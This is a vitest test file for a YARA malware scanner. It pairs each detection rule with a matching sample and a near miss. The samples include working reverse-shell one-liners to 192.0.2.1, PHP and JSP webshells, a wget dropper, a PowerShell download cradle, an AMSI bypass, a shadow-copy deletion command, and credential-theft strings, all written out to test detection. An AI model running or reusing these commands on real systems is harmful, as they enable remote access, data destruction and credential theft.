import { beforeAll, expect, test } from "vitest";
import {
  buildElf,
  buildLnk,
  buildPdf,
  buildPe,
  buildRtfWithPackage,
  concatBytes,
  eicar,
  noise,
} from "../testing/index.ts";
import { createYaraScanner, readRuleSources } from "./yara.ts";
import type { YaraFacts } from "../inspection.ts";
import type { YaraScanner } from "./yara.ts";

const ascii = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
const pe = (functions: readonly string[], overlay = ""): Uint8Array =>
  buildPe({ imports: { "KERNEL32.dll": functions }, overlay: ascii(overlay) });
const DOS_STUB = "This program cannot be run in DOS mode";
const ONE = Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex");
const ONE_FILE = Buffer.from("e716e3bd65261145a4c48d4d0b7a9eac", "hex");

/** For each rule a sample that it must find, and one that comes close and is none. */
const SAMPLES: Readonly<Record<string, readonly [positive: Uint8Array, nearMiss: Uint8Array]>> = {
  packed_upx: [
    buildPe({
      sections: [
        { name: "UPX0", data: noise(16) },
        { name: "UPX1", data: ascii("UPX!") },
      ],
    }),
    buildPe({ sections: [{ name: "UPX0", data: noise(16) }] }),
  ],
  packed_commercial_protector: [
    buildPe({ sections: [{ name: ".vmp0", data: noise(16) }] }),
    ascii(".vmp0\0 without a program"),
  ],
  api_process_injection: [
    pe(["OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]),
    pe(["OpenProcess", "WriteProcessMemory"]),
  ],
  api_process_hollowing: [
    pe(["NtUnmapViewOfSection", "SetThreadContext", "ResumeThread", "WriteProcessMemory"]),
    pe(["SetThreadContext", "ResumeThread", "WriteProcessMemory"]),
  ],
  api_keylogger: [
    pe(["SetWindowsHookExA", "GetForegroundWindow", "GetKeyNameTextA"]),
    pe(["SetWindowsHookExA", "GetKeyNameTextA"]),
  ],
  anti_virtual_machine: [ascii("VBoxGuest vmtoolsd.exe SbieDll.dll"), ascii("VBoxGuest vmtoolsd.exe")],
  anti_debugging: [pe(["IsDebuggerPresent"], "x64dbg"), pe(["IsDebuggerPresent"])],
  downloader_program: [pe(["URLDownloadToFileA", "WinExec"]), pe(["URLDownloadToFileA"])],
  program_in_overlay: [pe([], `${DOS_STUB} ${DOS_STUB}`), pe([], DOS_STUB)],
  powershell_encoded_command: [
    ascii(`powershell.exe -nop -enc JABz${"A".repeat(30)}`),
    ascii(`powershell.exe -nop -file JABz${"A".repeat(30)}`),
  ],
  powershell_download_cradle: [
    ascii("IEX (New-Object Net.WebClient).DownloadString('http://example.com')"),
    ascii("(New-Object Net.WebClient).DownloadString('http://example.com')"),
  ],
  powershell_amsi_bypass: [
    ascii(
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
    ),
    ascii("amsiInitFailed is a field"),
  ],
  windows_script_downloader: [
    ascii('CreateObject("MSXML2.XMLHTTP") CreateObject("ADODB.Stream") CreateObject("WScript.Shell")'),
    ascii('CreateObject("MSXML2.XMLHTTP") CreateObject("WScript.Shell")'),
  ],
  windows_script_char_code_obfuscation: [
    ascii(`Execute ${"Chr(65) & ".repeat(50)}`),
    ascii(`Execute ${"Chr(65) & ".repeat(20)}`),
  ],
  encoded_windows_script: [ascii("#@~^DgAAAA==abcdefgqAQAAA==^#~@"), ascii("#@~^DgAAAA==abcdefg")],
  batch_obfuscated_by_substrings: [ascii("%a:~1,1%".repeat(20)), ascii("%a:~1,1%".repeat(10))],
  shell_reverse_shell: [ascii("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), ascii("bash -i; cat /dev/tcp")],
  python_reverse_shell: [
    ascii("s=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])"),
    ascii("s=socket.socket()\ns.connect(('192.0.2.1',1))\nsubprocess.call(['ls'])"),
  ],
  perl_reverse_shell: [
    ascii('use Socket;open(STDIN,">&S");exec("/bin/sh -i");'),
    ascii('use Socket;exec("/bin/sh -i");'),
  ],
  php_webshell: [
    ascii("<?php @eval(base64_decode($_POST['a'])); ?>"),
    ascii("<?php echo base64_decode($_POST['a']); ?>"),
  ],
  jsp_or_aspx_webshell: [
    ascii('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    ascii('<% out.print(request.getParameter("c")); %>'),
  ],
  linux_dropper_script: [
    ascii(
      "cd /tmp\nwget http://192.0.2.1/x.mips\nwget http://192.0.2.1/x.arm7\nwget http://192.0.2.1/x.x86\nchmod 777 *",
    ),
    ascii("cd /tmp\nwget http://192.0.2.1/x.x86\nchmod 777 *"),
  ],
  macro_runs_by_itself_and_downloads: [
    ascii("Sub AutoOpen()\nURLDownloadToFile\nEnd Sub"),
    ascii("Sub Later()\nURLDownloadToFile\nEnd Sub"),
  ],
  macro_runs_by_itself_and_starts_programs: [
    ascii('Sub Document_Open()\nShell "calc"\nEnd Sub'),
    ascii('Sub Document_Open()\nMsgBox "calc"\nEnd Sub'),
  ],
  rtf_equation_editor_object: [
    buildRtfWithPackage("x", noise(20), { className: "Equation.3" }),
    buildRtfWithPackage("x", noise(20), { className: "Word.Document.8" }),
  ],
  rtf_object_updates_itself: [
    buildRtfWithPackage("x", noise(20), { hasObjectUpdate: true }),
    buildRtfWithPackage("x", noise(20)),
  ],
  pdf_action_starts_program: [buildPdf({ launch: "cmd.exe", javascript: "1" }), buildPdf({ javascript: "1" })],
  shortcut_runs_script_host: [
    buildLnk({ arguments: "powershell -w hidden" }),
    buildLnk({ localPath: "C:\\Windows\\notepad.exe" }),
  ],
  onenote_embedded_script: [concatBytes(ONE, ONE_FILE, ascii("<script>")), concatBytes(ONE, ONE_FILE, ascii("plain"))],
  html_smuggling: [
    ascii("<script>var b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>"),
    ascii("<script>var b=new Blob(['x']);a.href=URL.createObjectURL(b)</script>"),
  ],
  ransom_note: [
    ascii("All your files have been encrypted. Send bitcoin. Do not rename files."),
    ascii("All your files have been encrypted by the backup program."),
  ],
  destroys_backups: [ascii("vssadmin delete shadows /all"), ascii("vssadmin list shadows")],
  crypto_miner: [ascii('{"url": "stratum+tcp://pool.example.com:1"}'), ascii("xmrig is the name of a program")],
  browser_credential_theft: [
    ascii("Login Data logins.json key4.db CryptUnprotectData"),
    ascii("Login Data logins.json key4.db"),
  ],
  wallet_theft: [
    ascii("wallet.dat \\Electrum\\wallets \\Exodus\\exodus.wallet"),
    ascii("wallet.dat \\Electrum\\wallets"),
  ],
  memory_credential_theft: [ascii("sekurlsa::logonpasswords"), ascii("sekurlsa")],
  messenger_exfiltration: [ascii("https://api.telegram.org/bot123456789:AAA/x"), ascii("https://api.telegram.org/")],
  linux_preload_rootkit: [
    buildElf({ importedSymbols: ["readdir64", "dlsym"], code: ascii("/etc/ld.so.preload"), needed: ["libc.so.6"] }),
    buildElf({ importedSymbols: ["readdir64", "dlsym"], needed: ["libc.so.6"] }),
  ],
  disk_wiper: [
    pe(["WriteFile", "DeviceIoControl"], "\\\\.\\PhysicalDrive0"),
    pe(["WriteFile"], "\\\\.\\PhysicalDrive0"),
  ],
  eicar_test_file: [eicar(), concatBytes(ascii(" "), eicar())],
};

let scanner: YaraScanner;

beforeAll(async () => {
  scanner = await createYaraScanner(readRuleSources());
});

function namesIn(facts: YaraFacts): string[] {
  if (!facts.ran) throw new Error(facts.reason);
  return facts.matches.map(({ rule }) => rule);
}

test.each(Object.entries(SAMPLES))(
  "the rule %s finds its sample and lets the near miss pass",
  (rule, [positive, nearMiss]) => {
    expect(namesIn(scanner.scan(positive).facts)).toContain(rule);
    expect(namesIn(scanner.scan(nearMiss).facts)).not.toContain(rule);
  },
);

test("every rule has a sample, and its description, severity, confidence, technique and tag", () => {
  const facts = Object.values(SAMPLES).map(([positive]) => scanner.scan(positive).facts);
  const seen = new Map(facts.flatMap((fact) => (fact.ran ? fact.matches : [])).map((match) => [match.rule, match]));
  expect(facts[0]).toMatchObject({ ran: true, ruleCount: Object.keys(SAMPLES).length });
  for (const name of Object.keys(SAMPLES)) {
    const match = seen.get(name);
    expect(match?.tags.length, name).toBeGreaterThan(0);
    expect(match?.meta["description"], name).toEqual(expect.stringMatching(/^[A-Z].{10,}/));
    expect(match?.meta["mitre"], name).toEqual(expect.stringMatching(/^T\d{4}(\.\d{3})?$/));
    for (const key of ["severity", "confidence"])
      expect(match?.meta[key], `${name} ${key}`).toEqual(expect.any(Number));
  }
});

test("ordinary programs match nothing", () => {
  expect(
    namesIn(scanner.scan(buildPe({ imports: { "KERNEL32.dll": ["CreateFileW", "WriteFile", "ExitProcess"] } })).facts),
  ).toEqual([]);
  expect(namesIn(scanner.scan(buildElf({ needed: ["libc.so.6"], importedSymbols: ["printf"] })).facts)).toEqual([]);
});

test("rules that do not compile are an outcome of the scan", async () => {
  const broken = await createYaraScanner(new Map([["bad", "rule x { condition: nonsense }"]]));
  expect(broken.scan(noise(10)).facts).toMatchObject({
    ran: false,
    reason: expect.stringMatching(/^The rules in bad\.yar do not compile: /),
  });
});

test("more matches than are kept name the limit", async () => {
  const many = Array.from({ length: 250 }, (_, index) => `rule r${index} { condition: true }`).join("\n");
  const outcome = (await createYaraScanner(new Map([["many", many]]))).scan(noise(10));
  expect(outcome.limitsReached).toEqual(["MAX_YARA_MATCHES"]);
});
